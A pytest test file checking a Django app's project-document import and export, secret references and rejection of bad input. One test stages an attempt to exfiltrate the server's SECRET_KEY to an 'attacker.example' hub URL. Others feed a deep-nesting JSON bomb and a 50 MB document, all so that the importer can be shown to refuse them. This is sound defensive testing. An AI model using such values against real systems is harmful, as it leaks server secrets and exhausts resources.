"""Project documents: export, import, round trip, secrets, and every kind of bad input named in issue 3."""

from __future__ import annotations

import json
import logging

import pytest
from django.utils import timezone
from django_celery_beat.models import PeriodicTask

from groups.models import Group, GroupKey, GroupRun, RunStatus
from hubs.models import Entity, Hub, Parameter, Project
from hubs.project_document import ProjectDocumentError, ProjectExistsError, schema
from hubs.project_document.validation import nesting_depth_exceeds
from hubs.services import project_export, project_import
from scripts_engine.models import DataSource, Script, Sink

pytestmark = pytest.mark.django_db

KEY_A = "s3cr3t-key-for-hub-a"
SINK_PASSWORD = "pg-pa55word"


def pump(path: str, name: str) -> dict:
    return {
        "id": path,
        "name": name,
        "type": "pump",
        "params": [
            {"key": "flow", "name": "Flow", "type": "number", "unit": "m3/h", "writable": False},
            {"key": "speed_sp", "name": "Speed setpoint", "type": "number", "unit": "rpm", "writable": True},
        ],
        "children": [],
    }


def sample_document() -> dict:
    """A small but complete project: two hubs, a three-level tree, every trigger, a script, a sink, a source."""
    return {
        "format": "hubsched.project/1",
        "name": "plant",
        "description": "Pumps and boiler",
        "time_zone": "Europe/Berlin",
        "hubs": [
            {
                "name": "hub-a",
                "url": "ws://127.0.0.1:8765/connect",
                "api_key": KEY_A,
                "timeout": 2.5,
                "max_in_flight": 8,
                "enabled": True,
                "entities": [
                    {
                        "id": "plant",
                        "name": "Plant",
                        "type": "site",
                        "params": [],
                        "children": [
                            {
                                "id": "plant/line1",
                                "name": "Line 1",
                                "type": "line",
                                "params": [{"key": "state", "name": "State", "type": "string", "unit": "", "writable": False}],
                                "children": [pump("plant/line1/pump1", "Pump 1"), pump("plant/line1/pump2", "Pump 2")],
                            }
                        ],
                    }
                ],
                "groups": [
                    {
                        "name": "pumps",
                        "trigger": "interval",
                        "period": 1.0,
                        "offset": 0.5,
                        "cron": "",
                        "run_at": None,
                        "deadband": None,
                        "expires": 3.0,
                        "script": "double",
                        "enabled": True,
                        "keys": [
                            {"entity": "plant/line1/pump2", "key": "flow", "alias": "flow2"},
                            {"entity": "plant/line1/pump1", "key": "flow", "alias": "flow1"},
                            {"entity": "plant/line1/pump1", "key": "speed_sp", "alias": ""},
                        ],
                    },
                    {
                        "name": "nightly",
                        "trigger": "cron",
                        "period": 10.0,
                        "offset": 0.0,
                        "cron": "0 0 2 * * *",
                        "run_at": None,
                        "deadband": None,
                        "expires": None,
                        "script": None,
                        "enabled": False,
                        "keys": [{"entity": "plant/line1", "key": "state", "alias": ""}],
                    },
                ],
            },
            {
                "name": "hub-b",
                "url": "ws://127.0.0.1:8766/connect",
                "api_key": "",
                "timeout": 5.0,
                "max_in_flight": 32,
                "enabled": False,
                "entities": [],
                "groups": [
                    {
                        "name": "once",
                        "trigger": "once",
                        "period": 10.0,
                        "offset": 0.0,
                        "cron": "",
                        "run_at": "2030-01-31T08:00:00Z",
                        "deadband": None,
                        "expires": None,
                        "script": None,
                        "enabled": True,
                        "keys": [{"entity": "anything/goes", "key": "p1", "alias": ""}],
                    },
                    {
                        "name": "changes",
                        "trigger": "on_change",
                        "period": 10.0,
                        "offset": 0.0,
                        "cron": "",
                        "run_at": None,
                        "deadband": 0.25,
                        "expires": None,
                        "script": None,
                        "enabled": True,
                        "keys": [{"entity": "anything/goes", "key": "p2", "alias": ""}],
                    },
                ],
            },
        ],
        "scripts": [
            {"name": "double", "code": "flow1 = flow1 * 2\n", "description": "Doubles", "timeout": 1.5, "memory_limit_mb": 64}
        ],
        "sinks": [
            {"name": "archive", "url": f"postgresql+psycopg2://writer:{SINK_PASSWORD}@db/values", "layout": "tall",
             "table": "values_wide", "enabled": True},
            {"name": "local", "url": "sqlite:///var/values.sqlite3", "layout": "tall", "table": "hubsched_values", "enabled": False},
        ],
        "data_sources": [{"name": "erp", "url": "mysql+pymysql://reader@erp/orders"}],
    }


def text(doc: dict) -> str:
    return json.dumps(doc)


def database_snapshot() -> dict:
    """Every row the import may touch, as plain values, to compare before and after a refused import."""
    return {
        model.__name__: sorted(map(repr, model.objects.values()))
        for model in (Project, Hub, Entity, Parameter, Group, GroupKey, GroupRun, Script, Sink, DataSource, PeriodicTask)
    }


def import_errors(raw, **kwargs) -> list[str]:
    with pytest.raises(ProjectDocumentError) as caught:
        project_import(raw=raw, **kwargs)
    return caught.value.errors


# --- export and import -------------------------------------------------------------------------------------


def test_it_imports_every_field_of_a_document():
    result = project_import(raw=text(sample_document()))
    project = result.project
    assert result.created
    assert (project.name, project.description, project.time_zone) == ("plant", "Pumps and boiler", "Europe/Berlin")
    hub = Hub.objects.get(project=project, name="hub-a")
    assert (hub.url, hub.api_key, hub.timeout, hub.max_in_flight, hub.enabled) == ("ws://127.0.0.1:8765/connect", KEY_A, 2.5, 8, True)
    pump1 = Entity.objects.get(hub=hub, path="plant/line1/pump1")
    assert pump1.parent.path == "plant/line1" and pump1.parent.parent.path == "plant"
    speed = Parameter.objects.get(entity=pump1, key="speed_sp")
    assert (speed.name, speed.type, speed.unit, speed.writable) == ("Speed setpoint", "number", "rpm", True)
    group = Group.objects.get(hub=hub, name="pumps")
    assert (group.trigger, group.period, group.offset, group.expires, group.script.name) == ("interval", 1.0, 0.5, 3.0, "double")
    assert [(k.entity, k.key, k.alias, k.position) for k in group.keys.all()] == [
        ("plant/line1/pump2", "flow", "flow2", 0),
        ("plant/line1/pump1", "flow", "flow1", 1),
        ("plant/line1/pump1", "speed_sp", "", 2),
    ]
    once = Group.objects.get(name="once")
    assert once.run_at.isoformat() == "2030-01-31T08:00:00+00:00"
    assert Group.objects.get(name="changes").deadband == 0.25
    script = Script.objects.get(project=project)
    assert (script.code, script.description, script.timeout, script.memory_limit_mb) == ("flow1 = flow1 * 2\n", "Doubles", 1.5, 64)
    sink = Sink.objects.get(name="archive")
    assert (sink.layout, sink.table, sink.enabled) == ("tall", "values_wide", True)
    assert DataSource.objects.get(project=project).url == "mysql+pymysql://reader@erp/orders"


def test_an_imported_group_has_its_periodic_task_at_once():
    project_import(raw=text(sample_document()))
    pumps = Group.objects.get(name="pumps")
    assert pumps.periodic_task.interval.every == 1 and pumps.periodic_task.enabled
    nightly = Group.objects.get(name="nightly")
    assert nightly.periodic_task.crontab.hour == "2" and str(nightly.periodic_task.crontab.timezone) == "Europe/Berlin"
    assert not nightly.periodic_task.enabled
    assert Group.objects.get(name="changes").periodic_task is None


def test_export_writes_sorted_keys_and_a_stable_order():
    project = project_import(raw=text(sample_document())).project
    exported = project_export(project=project, include_secrets=True)
    doc = json.loads(exported)
    assert exported == json.dumps(doc, sort_keys=True, indent=2, ensure_ascii=False) + "\n"
    assert [h["name"] for h in doc["hubs"]] == ["hub-a", "hub-b"]
    assert [g["name"] for g in doc["hubs"][0]["groups"]] == ["nightly", "pumps"]
    assert [g["name"] for g in doc["hubs"][1]["groups"]] == ["changes", "once"]
    # a group's keys keep their order: it is the order of the bindings
    assert [k["alias"] for k in doc["hubs"][0]["groups"][1]["keys"]] == ["flow2", "flow1", ""]


def test_the_round_trip_is_byte_for_byte(monkeypatch):
    monkeypatch.setenv("HUB_HUB_A_KEY", KEY_A)
    monkeypatch.setenv("SINK_ARCHIVE_URL", f"postgresql+psycopg2://writer:{SINK_PASSWORD}@db/values")
    project = project_import(raw=text(sample_document())).project
    first = project_export(project=project)
    Project.objects.all().delete()
    project = project_import(raw=first).project
    assert project_export(project=project) == first
    assert Hub.objects.get(name="hub-a").api_key == KEY_A


def test_the_demo_project_round_trips(monkeypatch):
    from hubs.demo import demo_load

    project = demo_load().project
    first = project_export(project=project, include_secrets=True)
    Project.objects.all().delete()
    assert project_export(project=project_import(raw=first).project, include_secrets=True) == first
    assert len(json.loads(first)["hubs"]) == 2


def test_a_project_that_exists_is_refused_without_replace():
    project_import(raw=text(sample_document()))
    before = database_snapshot()
    with pytest.raises(ProjectExistsError) as caught:
        project_import(raw=text(sample_document()))
    assert caught.value.errors == ["name: a project named 'plant' already exists; import with replace to update it"]
    assert database_snapshot() == before


def test_replace_updates_in_place_and_keeps_run_history():
    project_import(raw=text(sample_document()))
    pumps = Group.objects.get(name="pumps")
    task_id = pumps.periodic_task_id
    GroupRun.objects.create(group=pumps, scheduled_for=timezone.now(), status=RunStatus.OK, values_count=3)
    doc = sample_document()
    doc["description"] = "changed"
    hub_a = doc["hubs"][0]
    hub_a["groups"][0]["period"] = 2.0
    hub_a["groups"].pop(1)  # "nightly" is gone
    hub_a["entities"][0]["children"][0]["children"].pop()  # pump2 is gone, so "pumps" reads pump1 only
    hub_a["groups"][0]["keys"] = [{"entity": "plant/line1/pump1", "key": "flow", "alias": ""}]
    doc["hubs"].pop()  # hub-b is gone
    result = project_import(raw=text(doc), replace=True)
    assert not result.created and result.project.description == "changed"
    pumps_after = Group.objects.get(name="pumps")
    assert pumps_after.pk == pumps.pk and pumps_after.periodic_task_id == task_id
    assert pumps_after.periodic_task.interval.every == 2
    assert GroupRun.objects.filter(group=pumps_after).count() == 1
    assert [(k.entity, k.key) for k in pumps_after.keys.all()] == [("plant/line1/pump1", "flow")]
    assert not Group.objects.filter(name__in=["nightly", "once", "changes"]).exists()
    assert not Entity.objects.filter(path="plant/line1/pump2").exists()
    assert list(Hub.objects.values_list("name", flat=True)) == ["hub-a"]


def test_replace_with_the_same_document_changes_nothing():
    project = project_import(raw=text(sample_document())).project
    before = project_export(project=project, include_secrets=True)
    ids = sorted(Entity.objects.values_list("pk", flat=True)), sorted(Group.objects.values_list("pk", flat=True))
    project_import(raw=before, replace=True)
    assert project_export(project=project, include_secrets=True) == before
    assert (sorted(Entity.objects.values_list("pk", flat=True)), sorted(Group.objects.values_list("pk", flat=True))) == ids


def test_optional_fields_take_the_model_defaults():
    doc = {"format": "hubsched.project/1", "name": "bare", "hubs": [{"name": "h", "url": "ws://h/connect",
           "groups": [{"name": "g", "trigger": "interval", "keys": [{"entity": "e", "key": "k"}]}]}]}  # a group needs a key
    project = project_import(raw=text(doc)).project
    assert project.time_zone == "UTC"
    hub = Hub.objects.get(project=project)
    assert (hub.api_key, hub.timeout, hub.max_in_flight, hub.enabled) == ("", 5.0, 128, True)
    group = Group.objects.get(hub=hub)
    assert (group.period, group.offset, group.enabled, group.script) == (10.0, 0.0, True, None)


# --- secrets -----------------------------------------------------------------------------------------------


def test_export_writes_references_for_secrets_by_default():
    project = project_import(raw=text(sample_document())).project
    exported = project_export(project=project)
    doc = json.loads(exported)
    assert KEY_A not in exported and SINK_PASSWORD not in exported
    assert doc["hubs"][0]["api_key"] == "${HUB_HUB_A_KEY}"
    assert doc["hubs"][1]["api_key"] == ""  # no key, nothing to hide
    assert doc["sinks"][0]["url"] == "${SINK_ARCHIVE_URL}"
    assert doc["sinks"][1]["url"] == "sqlite:///var/values.sqlite3"  # no password: written in clear
    assert doc["data_sources"][0]["url"] == "mysql+pymysql://reader@erp/orders"


def test_names_that_fold_to_one_variable_get_distinct_references():
    doc = sample_document()
    doc["hubs"][1]["name"] = "hub_a"
    doc["hubs"][1]["api_key"] = "another-key"
    exported = json.loads(project_export(project=project_import(raw=text(doc)).project))
    refs = [hub["api_key"] for hub in exported["hubs"]]
    assert len(set(refs)) == 2 and all(ref.startswith("${HUB_HUB_A_") for ref in refs)


def test_export_with_include_secrets_writes_them_in_clear():
    project = project_import(raw=text(sample_document())).project
    doc = json.loads(project_export(project=project, include_secrets=True))
    assert doc["hubs"][0]["api_key"] == KEY_A
    assert SINK_PASSWORD in doc["sinks"][0]["url"]


def test_import_resolves_references_from_the_environment():
    doc = sample_document()
    doc["hubs"][0]["api_key"] = "${HUB_HUB_A_KEY}"
    doc["data_sources"][0]["url"] = "${DATA_SOURCE_ERP_URL}"
    project_import(raw=text(doc), environ={"HUB_HUB_A_KEY": "from-env", "DATA_SOURCE_ERP_URL": "sqlite:///erp.db"})
    assert Hub.objects.get(name="hub-a").api_key == "from-env"
    assert DataSource.objects.get(name="erp").url == "sqlite:///erp.db"


def test_a_reference_to_an_unset_variable_is_an_error_naming_the_field():
    doc = sample_document()
    doc["hubs"][0]["api_key"] = "${HUB_HUB_A_KEY}"
    doc["sinks"][0]["url"] = "${SINK_ARCHIVE_URL}"
    assert import_errors(text(doc), environ={}) == [
        "hubs[0].api_key: environment variable HUB_HUB_A_KEY is not set",
        "sinks[0].url: environment variable SINK_ARCHIVE_URL is not set",
    ]
    assert not Project.objects.exists()


def test_the_attackers_hub_key_of_secret_key_is_refused_and_nothing_is_written(monkeypatch, existing_project):
    # the attack: a key of ${SECRET_KEY} was imported, exported back, and sent to whatever URL the document names
    monkeypatch.setenv("SECRET_KEY", "the-servers-django-secret-93b1")
    doc = sample_document()
    doc["hubs"][0]["url"] = "ws://attacker.example:80/collect"
    doc["hubs"][0]["api_key"] = "${SECRET_KEY}"
    errors = refused(text(doc), existing_project)
    assert errors == [
        'hubs[0].api_key: refused reference: this field takes only ${HUB_HUB_A_KEY}, the key of hub "hub-a"; '
        "import reads no other environment variable"
    ]
    assert "the-servers-django-secret-93b1" not in " ".join(errors)
    assert Hub.objects.get(name="hub-a").api_key == KEY_A


@pytest.mark.parametrize(
    ("section", "index", "field", "reference"),
    [
        ("hubs", 0, "api_key", "${SINK_ARCHIVE_URL}"),  # a sink's variable in a hub key
        ("hubs", 0, "api_key", "${HUB_HUB_B_KEY}"),  # another hub's key, sent to this hub's URL
        ("hubs", 0, "api_key", "${hub_hub_a_key}"),  # not what export writes
        ("hubs", 0, "api_key", "${PATH}"),
        ("hubs", 0, "api_key", "${}"),
        ("sinks", 0, "url", "${HUB_HUB_A_KEY}"),
        ("sinks", 0, "url", "${DATA_SOURCE_ERP_URL}"),
        ("data_sources", 0, "url", "${SINK_ARCHIVE_URL}"),
        ("data_sources", 0, "url", "${DATABASE_URL}"),
    ],
)
def test_a_reference_outside_the_field_it_is_made_for_is_refused(existing_project, section, index, field, reference):
    doc = sample_document()
    doc[section][index][field] = reference
    environ = {name: "set-" + name for name in ("SINK_ARCHIVE_URL", "HUB_HUB_A_KEY", "HUB_HUB_B_KEY", "hub_hub_a_key", "PATH",
                                                 "DATA_SOURCE_ERP_URL", "DATABASE_URL", "")}
    (error,) = refused(text(doc), existing_project, environ=environ)
    assert error.startswith(f"{section}[{index}].{field}: refused reference: this field takes only ${{")
    assert "set-" not in error


def test_every_refused_reference_is_reported_at_once(existing_project):
    doc = sample_document()
    doc["hubs"][0]["api_key"] = "${SECRET_KEY}"
    doc["hubs"][1]["api_key"] = "${HUB_HUB_A_KEY}"
    doc["sinks"][1]["url"] = "${SINK_ARCHIVE_URL}"
    errors = refused(text(doc), existing_project, environ={"SECRET_KEY": "x", "HUB_HUB_A_KEY": "y", "SINK_ARCHIVE_URL": "z"})
    assert [e.split(":")[0] for e in errors] == ["hubs[0].api_key", "hubs[1].api_key", "sinks[1].url"]
    assert "${HUB_HUB_B_KEY}" in errors[1] and "${SINK_LOCAL_URL}" in errors[2]


def test_a_reference_among_other_text_is_taken_literally_and_never_resolved():
    doc = sample_document()
    doc["hubs"][0]["api_key"] = "k-${SECRET_KEY}"
    project_import(raw=text(doc), environ={"SECRET_KEY": "resolved"})
    assert Hub.objects.get(name="hub-a").api_key == "k-${SECRET_KEY}"


def test_a_url_reference_to_an_empty_variable_is_refused(existing_project):
    doc = sample_document()
    doc["sinks"][0]["url"] = "${SINK_ARCHIVE_URL}"
    assert refused(text(doc), existing_project, environ={"SINK_ARCHIVE_URL": ""}) == [
        "sinks[0].url: environment variable SINK_ARCHIVE_URL is empty"
    ]


def test_references_of_names_that_fold_together_take_each_its_own_hashed_variable():
    doc = sample_document()
    doc["hubs"][1]["name"] = "hub_a"
    doc["hubs"][1]["api_key"] = "another-key"
    exported = project_export(project=project_import(raw=text(doc)).project)
    refs = {hub["name"]: hub["api_key"][2:-1] for hub in json.loads(exported)["hubs"]}
    Project.objects.all().delete()
    swapped = json.loads(exported)
    swapped["hubs"][0]["api_key"], swapped["hubs"][1]["api_key"] = swapped["hubs"][1]["api_key"], swapped["hubs"][0]["api_key"]
    environ = {refs["hub-a"]: KEY_A, refs["hub_a"]: "another-key", "SINK_ARCHIVE_URL": "sqlite:///var/a.sqlite3"}
    assert [e.split(":")[0] for e in import_errors(text(swapped), environ=environ)] == ["hubs[0].api_key", "hubs[1].api_key"]
    project_import(raw=exported, environ=environ)
    assert {h.name: h.api_key for h in Hub.objects.all()} == {"hub-a": KEY_A, "hub_a": "another-key"}


def test_export_then_import_round_trips_with_references_and_include_secrets_still_gives_clear_keys():
    project = project_import(raw=text(sample_document())).project
    with_refs = project_export(project=project)
    clear = json.loads(project_export(project=project, include_secrets=True))
    assert clear["hubs"][0]["api_key"] == KEY_A and SINK_PASSWORD in clear["sinks"][0]["url"]
    Project.objects.all().delete()
    environ = {"HUB_HUB_A_KEY": KEY_A, "SINK_ARCHIVE_URL": clear["sinks"][0]["url"]}
    project = project_import(raw=with_refs, environ=environ).project
    assert project_export(project=project) == with_refs
    assert json.loads(project_export(project=project, include_secrets=True)) == clear


def test_a_sink_url_with_a_secret_query_value_is_exported_as_a_reference():
    doc = sample_document()
    doc["sinks"][1]["url"] = "postgresql://db/values?password=qv-7781"
    doc["data_sources"][0]["url"] = "postgresql://db/erp?application_name=a%20b"  # nothing secret in it
    exported = project_export(project=project_import(raw=text(doc)).project)
    assert "qv-7781" not in exported
    out = json.loads(exported)
    assert out["sinks"][1]["url"] == "${SINK_LOCAL_URL}"
    assert out["data_sources"][0]["url"] == "postgresql://db/erp?application_name=a%20b"


def test_keys_never_appear_in_errors_or_logs(caplog):
    caplog.set_level(logging.DEBUG)
    doc = sample_document()
    doc["hubs"][0]["api_key"] = 12345678
    doc["hubs"][0]["url"] = KEY_A  # a URL that is not one, holding a secret-looking value
    doc["sinks"][0]["url"] = 42
    errors = import_errors(text(doc))
    assert "hubs[0].api_key: must be a string" in errors
    assert "sinks[0].url: must be a string" in errors
    assert not any("12345678" in e or KEY_A in e for e in errors)
    project_import(raw=text(sample_document()))
    assert KEY_A not in caplog.text and SINK_PASSWORD not in caplog.text


# --- bad input ---------------------------------------------------------------------------------------------


@pytest.fixture
def existing_project():
    """A project already in the database, so that 'nothing changed' is tested against real rows."""
    project_import(raw=text(sample_document()))
    return database_snapshot()


def refused(raw, existing_project, **kwargs) -> list[str]:
    errors = import_errors(raw, replace=True, **kwargs)
    assert database_snapshot() == existing_project
    return errors


def test_text_that_is_not_json_is_refused(existing_project):
    assert refused('{"format": "hubsched.project/1", "name": ', existing_project) == [
        "document: not JSON: Expecting value at line 1 column 42"
    ]
    assert refused(b"\xff\xfe not utf-8", existing_project) == ["document: not UTF-8 text (byte 0)"]
    assert refused("[1, 2]", existing_project) == ["document: must be an object"]


def test_a_wrong_format_version_is_refused(existing_project):
    doc = sample_document()
    doc["format"] = "hubsched.project/2"
    assert refused(text(doc), existing_project) == ['format: unsupported format; this server reads "hubsched.project/1"']


def test_wrong_types_are_refused_each_with_its_path(existing_project):
    doc = sample_document()
    doc["time_zone"] = 1
    doc["hubs"][0]["timeout"] = "fast"
    doc["hubs"][0]["max_in_flight"] = 1.5
    doc["hubs"][0]["entities"][0]["children"][0]["params"][0]["writable"] = "yes"
    doc["hubs"][1]["groups"][0]["keys"] = {"entity": "a"}
    doc["scripts"][0]["memory_limit_mb"] = True
    assert refused(text(doc), existing_project) == [
        "hubs[0].entities[0].children[0].params[0].writable: must be a boolean",
        "hubs[0].max_in_flight: must be an integer",
        "hubs[0].timeout: must be a number",
        "hubs[1].groups[0].keys: must be an array",
        "scripts[0].memory_limit_mb: must be an integer",
        "time_zone: must be a string",
    ]


def test_out_of_range_values_are_refused_with_the_rule(existing_project):
    doc = sample_document()
    doc["hubs"][1]["groups"][0]["period"] = 0
    doc["hubs"][0]["groups"][0]["period"] = 0.05
    doc["hubs"][0]["max_in_flight"] = 0
    doc["hubs"][0]["groups"][1]["trigger"] = "hourly"
    assert refused(text(doc), existing_project) == [
        'hubs[0].groups[1].trigger: must be one of "interval", "cron", "once", "on_change"',
        "hubs[0].max_in_flight: must be at least 1",
        "hubs[1].groups[0].period: must be greater than 0",
    ]
    doc["hubs"][1]["groups"][0]["period"] = 1
    doc["hubs"][0]["max_in_flight"] = 1
    doc["hubs"][0]["groups"][1]["trigger"] = "cron"
    assert refused(text(doc), existing_project) == ["hubs[0].groups[0].period: must be at least 0.1 seconds"]


def test_unknown_fields_are_refused(existing_project):
    doc = sample_document()
    doc["owner"] = "me"
    doc["hubs"][0]["groups"][0]["keys"][0]["scale"] = 2
    doc["hubs"][0]["entities"][0]["colour"] = "red"
    doc["hubs"][0]["entities"][0]["children"][0]["size"] = 1
    assert refused(text(doc), existing_project) == [
        "hubs[0].entities[0].children[0].size: unknown field",
        "hubs[0].entities[0].colour: unknown field",
        "hubs[0].groups[0].keys[0].scale: unknown field",
        "owner: unknown field",
    ]


def test_missing_required_fields_are_refused(existing_project):
    doc = sample_document()
    del doc["format"]
    del doc["hubs"][0]["url"]
    del doc["hubs"][0]["groups"][1]["trigger"]
    del doc["sinks"][1]["url"]
    del doc["hubs"][0]["entities"][0]["children"][0]["id"]
    assert refused(text(doc), existing_project) == [
        "format: is required",
        "hubs[0].entities[0].children[0].id: is required",
        "hubs[0].groups[1].trigger: is required",
        "hubs[0].url: is required",
        "sinks[1].url: is required",
    ]


def test_duplicate_names_are_refused(existing_project):
    doc = sample_document()
    doc["hubs"][1]["name"] = "hub-a"
    doc["hubs"][0]["groups"][1]["name"] = "pumps"
    doc["scripts"].append(dict(doc["scripts"][0]))
    doc["sinks"][1]["name"] = "archive"
    doc["data_sources"].append({"name": "erp", "url": "sqlite://"})
    doc["hubs"][0]["entities"][0]["children"][0]["children"][1]["id"] = "plant/line1/pump1"
    doc["hubs"][0]["entities"][0]["children"][0]["params"].append({"key": "state"})
    errors = refused(text(doc), existing_project)
    assert errors == [
        'hubs[1].name: duplicate name "hub-a"',
        'scripts[1].name: duplicate name "double"',
        'sinks[1].name: duplicate name "archive"',
        'data_sources[1].name: duplicate name "erp"',
        'hubs[0].entities[0].children[0].params[1].key: duplicate key "state"',
        'hubs[0].entities[0].children[0].children[1].id: duplicate entity id "plant/line1/pump1"',
        'hubs[0].groups[1].name: duplicate name "pumps"',
        "hubs[0].groups[0].keys[0]: plant/line1/pump2.flow names no entity of this hub",  # pump2 was renamed
    ]


def test_an_entity_that_is_its_own_ancestor_is_refused(existing_project):
    doc = sample_document()
    line1 = doc["hubs"][0]["entities"][0]["children"][0]
    line1["children"][0]["children"] = [{"id": "plant/line1", "name": "loop"}]
    line1["children"][1]["children"] = [{"id": "plant"}]
    assert refused(text(doc), existing_project) == [
        'hubs[0].entities[0].children[0].children[0].children[0].id: entity "plant/line1" is its own ancestor',
        'hubs[0].entities[0].children[0].children[1].children[0].id: entity "plant" is its own ancestor',
    ]


def test_a_group_key_naming_no_entity_parameter_is_refused(existing_project):
    doc = sample_document()
    keys = doc["hubs"][0]["groups"][0]["keys"]
    keys.append({"entity": "plant/line1/pump1", "key": "nope"})
    keys.append({"entity": "plant/line9", "key": "flow"})
    assert refused(text(doc), existing_project) == [
        "hubs[0].groups[0].keys[3]: plant/line1/pump1.nope names no entity parameter of this hub",
        "hubs[0].groups[0].keys[4]: plant/line9.flow names no entity of this hub",
    ]


def test_group_rules_the_schema_cannot_say_are_checked(existing_project):
    doc = sample_document()
    doc["time_zone"] = "Mars/Olympus"
    pumps, nightly = doc["hubs"][0]["groups"]
    pumps["script"] = "missing"
    pumps["keys"][1]["alias"] = "flow2"  # binding used twice
    pumps["keys"].append(dict(pumps["keys"][2]))  # same key twice
    nightly["cron"] = "*/5 * * * *"  # five fields
    once = doc["hubs"][1]["groups"][0]
    once["run_at"] = "next tuesday"
    doc["scripts"][0]["code"] = "flow1 = (\n"
    doc["hubs"][1]["groups"][1]["trigger"] = "once"
    errors = refused(text(doc), existing_project)
    assert errors[1].startswith("scripts[0].code: ") and "line" in errors[1]
    del errors[1]
    assert errors == [
        'time_zone: unknown time zone "Mars/Olympus"',
        'hubs[0].groups[0].script: no script named "missing" in this document',
        'hubs[0].groups[0].keys[1]: binding name "flow2" is used twice in this group',
        "hubs[0].groups[0].keys[3]: plant/line1/pump1.speed_sp is listed twice",
        'hubs[0].groups[0].keys[3]: binding name "speed_sp" is used twice in this group',
        "hubs[0].groups[1].cron: not a six-field cron expression (seconds first, e.g. */5 * * * * *)",
        "hubs[1].groups[0].run_at: must be an RFC 3339 date and time with an offset (2026-01-31T08:00:00Z)",
        "hubs[1].groups[1].run_at: a once trigger needs run_at",
    ]


def test_all_errors_are_reported_at_once(existing_project):
    doc = sample_document()
    doc["hubs"][1]["groups"][0]["period"] = -1
    doc["hubs"][0]["timeout"] = 0
    doc["sinks"][0]["layout"] = "sideways"
    errors = refused(text(doc), existing_project)
    assert errors == [
        "hubs[0].timeout: must be at least 0.01",
        "hubs[1].groups[0].period: must be greater than 0",
        'sinks[0].layout: must be one of "tall", "wide"',
    ]


def test_a_50_mb_document_is_refused_before_it_is_parsed(existing_project):
    doc = sample_document()
    doc["scripts"][0]["code"] = "#" * (50 * 1024 * 1024)
    raw = text(doc).encode()
    errors = refused(raw, existing_project)
    assert errors == [f"document: {len(raw)} bytes is larger than the limit of {20 * 1024 * 1024} bytes"]


def test_the_size_limit_is_a_setting(existing_project, settings):
    settings.HUBSCHED_PROJECT_DOCUMENT_MAX_BYTES = 100
    assert refused(text(sample_document()), existing_project)[0].startswith("document: ")


def test_deep_nesting_is_refused_before_the_parser_recurses(existing_project):
    bomb = "[" * 1_000_000 + "]" * 1_000_000
    assert refused(bomb, existing_project) == ["document: nested deeper than 100 levels"]
    doc = sample_document()
    node = doc["hubs"][0]["entities"][0]
    for level in range(60):  # an entity tree too deep to be real
        child = {"id": f"{node['id']}/n{level}"}
        node["children"] = [child]
        node = child
    assert refused(text(doc), existing_project) == ["document: nested deeper than 100 levels"]


def test_the_nesting_scan_ignores_brackets_inside_strings():
    assert not nesting_depth_exceeds(json.dumps({"a": "[[[[[[[[{{{{{{" * 10, "b": '\\"[[[['}), 3)
    assert nesting_depth_exceeds("[[[[", 3)
    # an unterminated string full of escaped quotes is scanned in linear time
    assert not nesting_depth_exceeds('["' + '\\"' * 2_000_000, 3)


def test_a_failure_while_writing_rolls_everything_back(existing_project, monkeypatch):
    from hubs.project_document import importer

    def explode(**kwargs):
        raise RuntimeError("disk full")

    doc = sample_document()
    doc["description"] = "half written"
    monkeypatch.setattr(importer, "_groups_write", lambda *a, **k: explode())
    with pytest.raises(RuntimeError):
        project_import(raw=text(doc), replace=True)
    assert database_snapshot() == existing_project


def test_the_schema_is_valid_draft_2020_12_and_closed():
    import jsonschema

    jsonschema.Draft202012Validator.check_schema(schema())
    assert schema()["additionalProperties"] is False
    assert all(d.get("additionalProperties") is False for d in schema()["$defs"].values() if d.get("type") == "object")
